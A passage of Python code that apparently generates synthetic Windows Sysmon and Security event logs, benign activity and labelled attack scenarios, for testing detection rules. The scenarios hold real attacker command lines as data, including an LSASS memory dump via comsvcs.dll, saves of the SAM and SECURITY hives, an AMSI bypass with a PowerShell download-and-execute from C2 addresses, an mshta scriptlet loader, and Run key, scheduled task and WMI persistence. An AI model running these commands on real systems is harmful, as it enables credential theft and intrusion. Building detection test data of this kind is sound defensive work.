                kind = rng.choice(["renderer", "gpu-process", "utility --utility-sub-type=network.mojom.NetworkService"])
                line = f"\"{path}\" --type={kind} --lang=en-US --field-trial-handle={rng.randrange(1000, 9999)},i,{rng.getrandbits(60)},{rng.getrandbits(60)},262144 /prefetch:{rng.randrange(1, 9)}"
                proc = fleet.spawn(host, key, line, parent, user)
                return process_start(fleet, proc)
            line = f"\"{path}\" " + rng.choice(["", "--profile-directory=Default", "https://intranet.corp.example/"])
        elif key == "msedge":
            line = f"\"{path}\" --single-argument https://{rng.choice(EXTERNAL)[1]}/"
        elif key in ("winword", "excel"):
            doc = rng.choice([d for d in DOCUMENTS if d.endswith(".docx" if key == "winword" else ".xlsx")])
            line = f"\"{path}\" /n \"C:\\Users\\{name}\\Documents\\{doc}\""
        elif key == "notepad":
            line = f"\"{path}\" C:\\Users\\{name}\\Desktop\\{rng.choice(['notes.txt', 'todo.txt', 'hosts-copy.txt'])}"
        elif key == "teams":
            line = f"\"{path}\" --type=renderer --autoplay-policy=no-user-gesture-required --lang=en-US"
            explorer = fleet.ensure(host, "teams")
        else:
            line = f"\"{path}\" /recycle"
        proc = fleet.spawn(host, key, line, explorer, user)
        events = process_start(fleet, proc)
        if key in ("chrome", "msedge") and rng.random() < 0.5:
            ip, name_ = rng.choice(EXTERNAL)
            events.append(sysmon_network(fleet, proc, ip, 443, name_))
        return events

    def system_process(self, host: Host) -> list[dict[str, Any]]:
        fleet, rng = self.fleet, self.rng
        system = fleet.system[host.short]
        services = fleet.ensure(host, "services")
        schedule = fleet.ensure(host, "svchost")
        choice = rng.randrange(9)
        if choice == 0:
            proc = fleet.spawn(host, "svchost", f"C:\\Windows\\system32\\svchost.exe -k {rng.choice(['netsvcs -p -s gpsvc', 'LocalService -p -s W32Time', 'wsappx -p -s ClipSVC', 'netsvcs -p -s wuauserv', 'UnistackSvcGroup'])}", services, system)
        elif choice == 1:
            proc = fleet.spawn(host, "taskhostw", "taskhostw.exe Install $(Arg0)", schedule, system)
        elif choice == 2:
            proc = fleet.spawn(host, "mpcmdrun", f"\"{IMAGES['mpcmdrun'][0]}\" -wdenable", fleet.ensure(host, "msmpeng"), system)
        elif choice == 3:
            indexer = fleet.ensure(host, "searchindexer", services, system)
            proc = fleet.spawn(host, "searchprotocolhost", f"\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{rng.randrange(1, 400)} Global\\UsGthrCtrlFltPipeMssGthrPipe{rng.randrange(1, 400)} 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\"", indexer, system)
        elif choice == 4:
            dcom = fleet.ensure(host, "svchost")
            proc = fleet.spawn(host, "wmiprvse", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", dcom, fleet.netsvc[host.short])
        elif choice == 5:
            proc = fleet.spawn(host, "compattelrunner", "C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun", schedule, system)
        elif choice == 6:
            proc = fleet.spawn(host, "sppsvc", "C:\\Windows\\system32\\sppsvc.exe", services, fleet.netsvc[host.short])
        elif choice == 7:
            # near miss of the comsvcs rule: rundll32, but no comsvcs MiniDump
            line = rng.choice(["C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding",
                               "C:\\Windows\\system32\\rundll32.exe Startupscan.dll,SusRunTask",
                               "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask"])
            proc = fleet.spawn(host, "rundll32", line, schedule, system)
        else:
            proc = fleet.spawn(host, "backgroundtaskhost", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider", fleet.ensure(host, "svchost"), fleet.users.get(host.short, system))
        return process_start(self.fleet, proc)

    def dev_or_admin_process(self, host: Host) -> list[dict[str, Any]]:
        fleet, rng = self.fleet, self.rng
        user = fleet.users[host.short]
        explorer = fleet.ensure(host, "explorer")
        events: list[dict[str, Any]] = []
        if host.short.startswith("WS-IT"):
            admin = fleet.admin(host, "adm-elarsen")
            if rng.random() < 0.5:
                # near misses: powershell with -ExecutionPolicy, reg export of a vendor key
                line = rng.choice([
                    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\Get-Inventory.ps1",
                    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -Command \"Get-ADUser -Filter 'Enabled -eq $false' | Measure-Object\"",
                    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -ExecutionPolicy RemoteSigned -Command Test-NetConnection srv-file-01 -Port 445",
                ])
                proc = fleet.spawn(host, "powershell", line, explorer, admin)
                events += process_start(fleet, proc)
                events.append(sysmon_network(fleet, proc, DC.ip, 389, DC.fqdn))
                return events
            cmd = fleet.spawn(host, "cmd", "\"C:\\Windows\\system32\\cmd.exe\" ", explorer, admin)
            events += process_start(fleet, cmd)
            events += process_start(fleet, fleet.spawn(host, "conhost", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", cmd, admin))
            key, line = rng.choice([
                ("reg", "reg  query HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters"),
                ("reg", "reg  export HKLM\\SOFTWARE\\Vendor\\Agent C:\\Backup\\agent.reg /y"),
                ("reg", "reg  save HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip C:\\Backup\\tcpip.hiv /y"),
                ("ipconfig", "ipconfig  /flushdns"), ("gpupdate", "gpupdate  /force"),
                ("nslookup", "nslookup  srv-file-01.corp.example"),
                ("robocopy", "robocopy  C:\\Scripts \\\\SRV-FILE-01\\it$\\scripts /MIR /NP"),
            ])
            proc = fleet.spawn(host, key, line, cmd, admin)
            return events + process_start(fleet, proc)
        if host.short.startswith("WS-DEV"):
            code = fleet.ensure(host, "code", explorer, user)
            key, line = rng.choice([
                ("git", "\"C:\\Program Files\\Git\\cmd\\git.exe\" fetch --prune origin"),
                ("git", "\"C:\\Program Files\\Git\\cmd\\git.exe\" status -z -uall"),
                ("python", f"{fleet.image_path('python', host)} -m pytest -q tests"),
                ("python", f"{fleet.image_path('python', host)} manage.py runserver 127.0.0.1:8000"),
                ("powershell", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -NoExit -Command \"& {Import-Module posh-git}\""),
            ])
            proc = fleet.spawn(host, key, line, code, user, cwd=f"C:\\Users\\{user.name}\\src\\billing\\")
            events += process_start(fleet, proc)
            if key == "git" and "fetch" in line:
                events.append(sysmon_network(fleet, proc, "140.82.121.4", 443, "github.com"))
            return events
        # office users: an HTA from the intranet helpdesk, or a document opened from mail
        if rng.random() < 0.3:
            proc = fleet.spawn(host, "mshta", "\"C:\\Windows\\System32\\mshta.exe\" \"C:\\Program Files\\Helpdesk\\ticket.hta\" ", explorer, user)
        else:
            outlook = fleet.ensure(host, "outlook")
            doc = rng.choice(DOCUMENTS)
            key = "excel" if doc.endswith("xlsx") else "winword"
            proc = fleet.spawn(host, key, f"\"{fleet.image_path(key, host)}\" /n \"C:\\Users\\{user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{rng.getrandbits(32):08X}\\{doc}\" /o \"\"", outlook, user)
        return process_start(fleet, proc)

    # network, file, registry, logon, access ---------------------------------------------------

    def network(self, host: Host) -> list[dict[str, Any]]:
        fleet, rng = self.fleet, self.rng
        if host.role == "dc":
            client = rng.choice(WORKSTATIONS + (FILE_SERVER,))
            if rng.random() < 0.5:
                proc = fleet.ensure(host, "lsass")
                return [sysmon_network(fleet, proc, "", rng.choice([88, 389, 445, 135]), inbound=True, src_ip=client.ip)]
            proc = fleet.ensure(host, "dns")
            return [sysmon_network(fleet, proc, "", 53, protocol="udp", inbound=True, src_ip=client.ip)]
        if host.role == "server":
            client = rng.choice(WORKSTATIONS)
            return [sysmon_network(fleet, fleet.ensure(host, "system"), "", 445, inbound=True, src_ip=client.ip)]
        roll = rng.random()
        if roll < 0.25:
            return [sysmon_network(fleet, fleet.ensure(host, "svchost"), DC.ip, 53, DC.fqdn, protocol="udp")]
        if roll < 0.35:
            return [sysmon_network(fleet, fleet.ensure(host, "lsass"), DC.ip, 88, DC.fqdn)]
        if roll < 0.45:
            return [sysmon_network(fleet, fleet.ensure(host, "system"), FILE_SERVER.ip, 445, FILE_SERVER.fqdn)]
        key = rng.choice(["chrome", "chrome", "msedge", "teams", "outlook", "onedrive"])
        proc = fleet.ensure(host, key, fleet.ensure(host, "explorer"))
        ip, name = rng.choice(EXTERNAL)
        return [sysmon_network(fleet, proc, ip, 443, name)]

    def file(self, host: Host) -> list[dict[str, Any]]:
        fleet, rng = self.fleet, self.rng
        roll = rng.random()
        if host.role != "workstation" or roll < 0.3:
            if rng.random() < 0.5:
                proc = fleet.ensure(host, "svchost")
                image = rng.choice(["CHROME.EXE", "SVCHOST.EXE", "TASKHOSTW.EXE", "SEARCHPROTOCOLHOST.EXE", "CONHOST.EXE"])
                return [sysmon_file(fleet, proc, f"C:\\Windows\\Prefetch\\{image}-{rng.getrandbits(32):08X}.pf")]
            proc = fleet.ensure(host, "msmpeng")
            return [sysmon_file(fleet, proc, f"C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\CacheManager\\{rng.getrandbits(64):016X}-0.bin")]
        user = fleet.users[host.short].name
        key = rng.choice(["chrome", "chrome", "winword", "excel", "onedrive", "outlook"])
        proc = fleet.ensure(host, key, fleet.ensure(host, "explorer"))
        if key == "chrome":
            target = rng.choice([
                f"C:\\Users\\{user}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_{rng.getrandbits(24):06x}",
                f"C:\\Users\\{user}\\Downloads\\{rng.choice(DOCUMENTS)}",
                f"C:\\Users\\{user}\\AppData\\Local\\Temp\\chrome_{rng.getrandbits(32):08x}.tmp",
            ])
        elif key in ("winword", "excel"):
            target = f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Office\\Recent\\{rng.choice(DOCUMENTS)}.LNK"
        elif key == "onedrive":
            target = f"C:\\Users\\{user}\\OneDrive - Corp\\Documents\\{rng.choice(DOCUMENTS)}"
        else:
            target = f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{rng.getrandbits(32):08X}\\{rng.choice(DOCUMENTS)}"
        return [sysmon_file(fleet, proc, target)]

    def registry(self, host: Host) -> list[dict[str, Any]]:
        fleet, rng = self.fleet, self.rng
        if host.role != "workstation" or rng.random() < 0.35:
            proc = fleet.ensure(host, "svchost")
            target, details = rng.choice([
                ("HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime", "QWORD (0x01db4a17-0x5f3c2a10)"),
                ("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\Results\\Install\\LastError", "DWORD (0x00000000)"),
                ("HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-18\\\\Device\\HarddiskVolume3\\Windows\\System32\\svchost.exe", "Binary Data"),
                ("HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated", "Binary Data"),
            ])
            return [sysmon_registry(fleet, proc, target, details)]
        user = fleet.users[host.short]
        sid = user.sid
        roll = rng.random()
        if roll < 0.5:
            proc = fleet.ensure(host, "explorer")
            value = rng.choice(["HRZR_PGYFRFFVBA", "{1NP14R77-02R7-4R5Q-O744-2RO1NR5198O7}\\abgrcnq.rkr", "{6Q809377-6NS0-444O-8957-N3773S02200R}\\Zvpebfbsg Bssvpr\\Bssvpr16\\BHGYBBX.RKR"])
            return [sysmon_registry(fleet, proc, f"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}}\\Count\\{value}", "Binary Data")]
        if roll < 0.75:
            key = rng.choice(["winword", "excel"])
            proc = fleet.ensure(host, key, fleet.ensure(host, "explorer"))
            app = "Word" if key == "winword" else "Excel"
            doc = rng.choice(DOCUMENTS)
            return [sysmon_registry(fleet, proc, f"HKU\\{sid}\\Software\\Microsoft\\Office\\16.0\\{app}\\Reading Locations\\Document {rng.randrange(0, 20)}\\File Path", f"C:\\Users\\{user.name}\\Documents\\{doc}")]
        # near misses of the Run key rule: autostarts of OneDrive and Teams
        if rng.random() < 0.5:
            proc = fleet.ensure(host, "onedrive")
            return [sysmon_registry(fleet, proc, f"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive", f"\"{proc.image}\" /background")]
        proc = fleet.ensure(host, "teams")
        return [sysmon_registry(fleet, proc, f"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\com.squirrel.Teams.Teams", f"C:\\Users\\{user.name}\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart \"Teams.exe\" --process-start-args \"--system-initiated\"")]

    def logon(self, host: Host) -> list[dict[str, Any]]:
        fleet, rng = self.fleet, self.rng
        if host.role in ("dc", "server"):
            client = rng.choice(WORKSTATIONS)
            user = client.user if rng.random() < 0.85 else "adm-elarsen"
            assert user is not None
            return [security_logon(fleet, host, user, 3, client)]
        if rng.random() < 0.6:
            return [security_logon(fleet, host, "SYSTEM", 5, None)]
        assert host.user is not None
        return [security_logon(fleet, host, host.user, 7, None, package="Negotiate")]

    def lsass_access(self, host: Host) -> list[dict[str, Any]]:
        # near misses of the LSASS rule: Defender (filtered) and svchost with a harmless mask
        fleet, rng = self.fleet, self.rng
        lsass = fleet.ensure(host, "lsass")
        if rng.random() < 0.5:
            return [sysmon_access(fleet, fleet.ensure(host, "msmpeng"), lsass, "0x1fffff")]
        return [sysmon_access(fleet, fleet.ensure(host, "svchost"), lsass, rng.choice(["0x1000", "0x1400", "0x101000"]))]


# ---------------------------------------------------------------- attack scenarios


@dataclass(slots=True)
class _Item:
    gap_ms: int  # after the previous event of the sequence (first: after the sequence start)
    event: dict[str, Any]
    original_ms: int | None = None  # the event's own time in its recording (replays only)


@dataclass(frozen=True, slots=True)
class _Scenario:
    info: AttackScenario
    build: Callable[[Fleet, random.Random], list[_Item]]


# ---- synthesized attacks --------------------------------------------------------------------


def _encode_ps(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _victim(fleet: Fleet, rng: random.Random) -> tuple[Host, Account, Proc]:
    host = rng.choice(WORKSTATIONS)
    user = fleet.users[host.short]
    return host, user, fleet.ensure(host, "explorer")


def _items(events: Sequence[dict[str, Any]], rng: random.Random, low: int = 5, high: int = 1500) -> list[_Item]:
    return [_Item(rng.randrange(low, high), e) for e in events]


DISCOVERY = (
    ("whoami", "whoami  /all"), ("whoami", "whoami  /groups"), ("net", "net  group \"Domain Admins\" /domain"),
    ("net", "net  user /domain"), ("net", "net  localgroup administrators"), ("nltest", f"nltest  /dclist:{DOMAIN}"),
    ("systeminfo", "systeminfo"), ("tasklist", "tasklist  /v"), ("ipconfig", "ipconfig  /all"), ("quser", "quser"),
    ("netstat", "netstat  -ano"),
)


def _discovery(fleet: Fleet, rng: random.Random, shell: Proc, account: Account) -> list[dict[str, Any]]:
    """What an operator types first on a new foothold: a few discovery commands from the shell."""
    events: list[dict[str, Any]] = []
    for key, line in rng.sample(DISCOVERY, rng.randint(3, 5)):
        proc = fleet.spawn(shell.host, key, line, shell, account)
        events += process_start(fleet, proc)
        if key in ("net", "nltest") and "/domain" in line or key == "nltest":
            events.append(sysmon_network(fleet, proc, DC.ip, rng.choice([389, 445, 135]), DC.fqdn))
    return events


def _syn_comsvcs(fleet: Fleet, rng: random.Random) -> list[_Item]:
    host, user, explorer = _victim(fleet, rng)
    admin = fleet.admin(host, user.name)
    ps = fleet.spawn(host, "powershell", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ", explorer, admin)
    lsass = fleet.ensure(host, "lsass")
    dump = f"C:\\Users\\{user.name}\\AppData\\Local\\Temp\\{rng.choice(['lsass', 'debug', 'out'])}.dmp"
    rundll = fleet.spawn(host, "rundll32", f"\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {dump} full", ps, admin)
    events = [*process_start(fleet, ps), *_discovery(fleet, rng, ps, admin), *process_start(fleet, rundll),
              sysmon_access(fleet, rundll, lsass, "0x1fffff"), sysmon_file(fleet, rundll, dump)]
    return _items(events, rng)


def _syn_reg_save(fleet: Fleet, rng: random.Random) -> list[_Item]:
    host, user, explorer = _victim(fleet, rng)
    admin = fleet.admin(host, user.name)
    cmd = fleet.spawn(host, "cmd", "\"C:\\Windows\\system32\\cmd.exe\" ", explorer, admin)
    events = [*process_start(fleet, cmd), *_discovery(fleet, rng, cmd, admin)]
    for hive, out in (("SAM", "sam.save"), ("SYSTEM", "system.save"), ("SECURITY", "security.save")):
        reg = fleet.spawn(host, "reg", f"reg  save HKLM\\{hive} C:\\Users\\Public\\{out} /y", cmd, admin)
        events += [*process_start(fleet, reg), sysmon_file(fleet, reg, f"C:\\Users\\Public\\{out}")]
    return _items(events, rng)


AMSI_BYPASS = ("$a=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils');"
               "$a.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true);"
               "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');"
               "IEX $wc.DownloadString('http://{c2}/news.php')")


def _syn_encoded_powershell(fleet: Fleet, rng: random.Random) -> list[_Item]:
    host, user, explorer = _victim(fleet, rng)
    c2 = rng.choice(["185.220.101.47", "45.137.21.9", "91.219.236.18"])
    word = fleet.spawn(host, "winword", f"\"{IMAGES['winword'][0]}\" /n \"C:\\Users\\{user.name}\\Downloads\\invoice-{rng.randrange(1000, 9999)}.docm\"", explorer, user)
    script = AMSI_BYPASS.replace("{c2}", c2)
    ps = fleet.spawn(host, "powershell", f"powershell.exe -NoP -sta -NonI -W Hidden -Enc {_encode_ps(script)}", word, user)
    block = _base(fleet, host, PS_CHANNEL, 4104)
    block.update({"Provider_Name": "Microsoft-Windows-PowerShell", "Provider_Guid": "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
                  "Level": "5", "Task": 2, "Execution_ProcessID": ps.pid, "Security_UserID": user.sid,
                  "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": script,
                  "ScriptBlockId": _uuid(rng), "Path": ""})
    events = [*process_start(fleet, word), *process_start(fleet, ps), block, sysmon_network(fleet, ps, c2, 80),
              *_discovery(fleet, rng, ps, user)]
    return _items(events, rng)


def _uuid(rng: random.Random) -> str:
    raw = f"{rng.getrandbits(128):032x}"
    return f"{raw[:8]}-{raw[8:12]}-4{raw[13:16]}-a{raw[17:20]}-{raw[20:]}"


def _syn_run_key(fleet: Fleet, rng: random.Random) -> list[_Item]:
    host, user, explorer = _victim(fleet, rng)
    ps = fleet.spawn(host, "powershell", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden", explorer, user)
    payload = f"C:\\Users\\{user.name}\\AppData\\Local\\Temp\\upd{rng.randrange(100, 999)}.ps1"
    events = [*process_start(fleet, ps), *_discovery(fleet, rng, ps, user), sysmon_file(fleet, ps, payload),
              sysmon_registry(fleet, ps, f"HKU\\{user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                              f"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -nop -File {payload}")]
    return _items(events, rng)


def _syn_mshta(fleet: Fleet, rng: random.Random) -> list[_Item]:
    host, user, explorer = _victim(fleet, rng)
    url = f"https://cdn-{rng.randrange(10, 99)}.updates-check.example/p.sct"
    mshta = fleet.spawn(host, "mshta", f"\"C:\\Windows\\System32\\mshta.exe\" javascript:a=GetObject(\"script:{url}\").Exec();close();", explorer, user)
    ps = fleet.spawn(host, "powershell", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -c \"$env:USERDOMAIN\"", mshta, user)
    events = [*process_start(fleet, mshta), sysmon_network(fleet, mshta, "104.21.33.7", 443, url.split("/")[2]),
              *process_start(fleet, ps), *_discovery(fleet, rng, ps, user)]
    return _items(events, rng)


def _syn_schtask(fleet: Fleet, rng: random.Random) -> list[_Item]:
    host = rng.choice(WORKSTATIONS)
    source = rng.choice([h for h in WORKSTATIONS if h != host])
    attacker = fleet.users[source.short]
    name = rng.choice(["\\Microsoft\\Windows\\UpdateOrchestrator\\RefreshCache", "\\OneDrive Standalone Update Task"])
    shell = fleet.spawn(source, "cmd", "\"C:\\Windows\\system32\\cmd.exe\" ", fleet.ensure(source, "explorer"), attacker)
    schtasks = fleet.spawn(source, "schtasks", f"schtasks  /create /s {host.short} /tn \"{name}\" /tr \"cmd.exe /c C:\\Users\\Public\\svc.bat\" /sc onstart /ru SYSTEM", shell, attacker)
    logon = security_logon(fleet, host, attacker.name, 3, source)
    task = _base(fleet, host, "Security", 4698)
    task.update({"Task": 12804, "SubjectUserSid": attacker.sid, "SubjectUserName": attacker.name,
                 "SubjectDomainName": NETBIOS, "SubjectLogonId": logon["TargetLogonId"], "TaskName": name,
                 "TaskContent": ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\n"
                                 f"  <RegistrationInfo>\n    <Author>{NETBIOS}\\{attacker.name}</Author>\n    <URI>{name}</URI>\n  </RegistrationInfo>\n"
                                 "  <Triggers>\n    <BootTrigger>\n      <Enabled>true</Enabled>\n    </BootTrigger>\n  </Triggers>\n"
                                 "  <Actions Context=\"Author\">\n    <Exec>\n      <Command>C:\\Windows\\system32\\cmd.exe</Command>\n"
                                 "      <Arguments>/c C:\\Users\\Public\\svc.bat</Arguments>\n    </Exec>\n  </Actions>\n"
                                 "  <Principals>\n    <Principal id=\"Author\">\n      <UserId>S-1-5-18</UserId>\n    </Principal>\n  </Principals>\n</Task>"),
                 "ClientProcessStartKey": "0", "ClientProcessId": "0", "ParentProcessId": "0", "RpcCallClientLocality": "0",
                 "FQDN": host.fqdn})
    events = [*process_start(fleet, shell), *_discovery(fleet, rng, shell, attacker), *process_start(fleet, schtasks),
              sysmon_network(fleet, schtasks, host.ip, 135, host.fqdn), logon, task]
    return _items(events, rng)


def _syn_psexec(fleet: Fleet, rng: random.Random) -> list[_Item]:
    host = rng.choice(WORKSTATIONS)
    source = next(h for h in WORKSTATIONS if h.short.startswith("WS-IT"))
    logon = security_logon(fleet, host, "adm-elarsen", 3, source, package="NTLM")
    system_proc = fleet.ensure(host, "system")
    services = fleet.ensure(host, "services")
    drop = sysmon_file(fleet, system_proc, "C:\\Windows\\PSEXESVC.exe")
    install = {"Provider_Name": "Service Control Manager", "Provider_Guid": "{555908d1-a6d7-4695-8e1e-26931d2012f4}",
               "Channel": "System", "Computer": host.fqdn, "EventID": 7045, "Version": 0, "Level": "4", "Task": 0,
               "Keywords": "0x8080000000000000", "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
               "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"}
    svc = fleet.spawn(host, "psexesvc", "C:\\Windows\\PSEXESVC.exe", services, fleet.system[host.short])
    admin = fleet.admin(host, "adm-elarsen")
    cmd = fleet.spawn(host, "cmd", "\"cmd\" ", svc, admin)
    events = [logon, drop, install, *process_start(fleet, svc), *process_start(fleet, cmd), *_discovery(fleet, rng, cmd, admin)]
    return _items(events, rng)


def _syn_dcsync(fleet: Fleet, rng: random.Random) -> list[_Item]:
    source = rng.choice(WORKSTATIONS)
    user = source.user or "a.nguyen"
    ps = fleet.spawn(source, "powershell", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ", fleet.ensure(source, "explorer"), fleet.users[source.short])
    logon = security_logon(fleet, DC, user, 3, source)
    events = [*process_start(fleet, ps), *_discovery(fleet, rng, ps, fleet.users[source.short]),
              sysmon_network(fleet, ps, DC.ip, 135, DC.fqdn), sysmon_network(fleet, ps, DC.ip, 49667, DC.fqdn), logon]
    for right in ("1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2"):
        access = _base(fleet, DC, "Security", 4662)
        access.update({"Task": 14080, "Version": 0, "SubjectUserSid": user_sid(user), "SubjectUserName": user,
                       "SubjectDomainName": NETBIOS, "SubjectLogonId": logon["TargetLogonId"], "ObjectServer": "DS",
                       "ObjectType": "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
                       "ObjectName": "%{3933c65d-ac7f-4c79-b5b7-ad0fb941333c}", "OperationType": "Object Access",
                       "HandleId": "0x0", "AccessList": "%%7688\r\n\t\t\t\t", "AccessMask": "0x100",
                       "Properties": f"%%7688\r\n\t\t{{{right}}}\r\n\t{{19195a5b-6da0-11d0-afd3-00c04fd930c9}}\r\n",
                       "AdditionalInfo": "-", "AdditionalInfo2": ""})
        events.append(access)
    return _items(events, rng, 1, 900)


def _syn_wmi_exec(fleet: Fleet, rng: random.Random) -> list[_Item]:
    host = rng.choice(WORKSTATIONS)
    source = rng.choice([h for h in WORKSTATIONS if h != host])
    dcom = fleet.ensure(host, "svchost")
    wmi = fleet.spawn(host, "wmiprvse", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", dcom, fleet.netsvc[host.short])
    account = fleet.admin(host, source.user or "a.nguyen")
    name = f"__{rng.randrange(10**9, 10**10)}.{rng.randrange(1, 99)}"
    events = [security_logon(fleet, host, source.user or "a.nguyen", 3, source, package="NTLM"), *process_start(fleet, wmi)]
    for _, line in rng.sample(DISCOVERY, rng.randint(2, 4)):
        cmd = fleet.spawn(host, "cmd", f"cmd.exe /Q /c {' '.join(line.split())} 1> \\\\127.0.0.1\\ADMIN$\\{name} 2>&1", wmi, account)
        events += [*process_start(fleet, cmd), sysmon_file(fleet, fleet.ensure(host, "system"), f"C:\\Windows\\{name}")]
    return _items(events, rng)


def _syn_ntlm_downgrade(fleet: Fleet, rng: random.Random) -> list[_Item]:
    host, user, explorer = _victim(fleet, rng)
    ps = fleet.spawn(host, "powershell", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ", explorer, fleet.admin(host, user.name))
    events = [*process_start(fleet, ps), *_discovery(fleet, rng, ps, fleet.admin(host, user.name))]
    for value, data in (("LMCompatibilityLevel", "DWORD (0x00000002)"), ("MSV1_0\\NtlmMinClientSec", "DWORD (0x20000000)"),
                        ("MSV1_0\\RestrictSendingNTLMTraffic", "DWORD (0x00000000)")):
        events.append(sysmon_registry(fleet, ps, f"HKLM\\System\\CurrentControlSet\\Control\\Lsa\\{value}", data))
    return _items(events, rng, 1, 30)


def _syn_wmi_consumer(fleet: Fleet, rng: random.Random) -> list[_Item]:
    host, user, explorer = _victim(fleet, rng)
    name = rng.choice(["SCM Event Log Consumer Update", "WindowsUpdateCheck"])
    ps = fleet.spawn(host, "powershell", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ", explorer, fleet.admin(host, user.name))
    events = [*process_start(fleet, ps), *_discovery(fleet, rng, ps, fleet.admin(host, user.name))]
    for event_id, extra in (
        (19, {"EventNamespace": "\"root\\\\cimv2\"", "Query": "\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\""}),
        (20, {"Type": "Command Line", "Destination": "\"powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\""}),
        (21, {"Consumer": f"\"CommandLineEventConsumer.Name=\\\"{name}\\\"\"", "Filter": f"\"__EventFilter.Name=\\\"{name}\\\"\""}),
    ):
        event = _base(fleet, host, SYSMON, event_id)
        event.update({"EventType": "WmiConsumerEvent" if event_id == 20 else ("WmiFilterEvent" if event_id == 19 else "WmiBindingEvent"),
                      "UtcTime": None, "Operation": "Created", "User": user.sysmon_user, "Name": f"\"{name}\"", **extra})
        events.append(event)
    return _items(events, rng, 10, 400)


SYNTHETIC: tuple[_Scenario, ...] = (
    _Scenario(AttackScenario("lsass-comsvcs-minidump", "LSASS dumped with comsvcs.dll MiniDump", "T1003.001", "synthetic"), _syn_comsvcs),
    _Scenario(AttackScenario("reg-save-sam", "SAM, SYSTEM and SECURITY hives saved with reg.exe", "T1003.002", "synthetic"), _syn_reg_save),
    _Scenario(AttackScenario("encoded-powershell-stager", "Macro document starts an encoded PowerShell stager with AMSI bypass", "T1059.001", "synthetic"), _syn_encoded_powershell),
    _Scenario(AttackScenario("run-key-powershell", "Run key persistence launching PowerShell", "T1547.001", "synthetic"), _syn_run_key),
    _Scenario(AttackScenario("mshta-javascript", "Mshta runs an inline JavaScript scriptlet loader", "T1218.005", "synthetic"), _syn_mshta),
    _Scenario(AttackScenario("remote-schtask", "Scheduled task with a cmd action created remotely", "T1053.005", "synthetic"), _syn_schtask),
    _Scenario(AttackScenario("psexec-service", "PsExec service installed for remote execution", "T1569.002", "synthetic"), _syn_psexec),
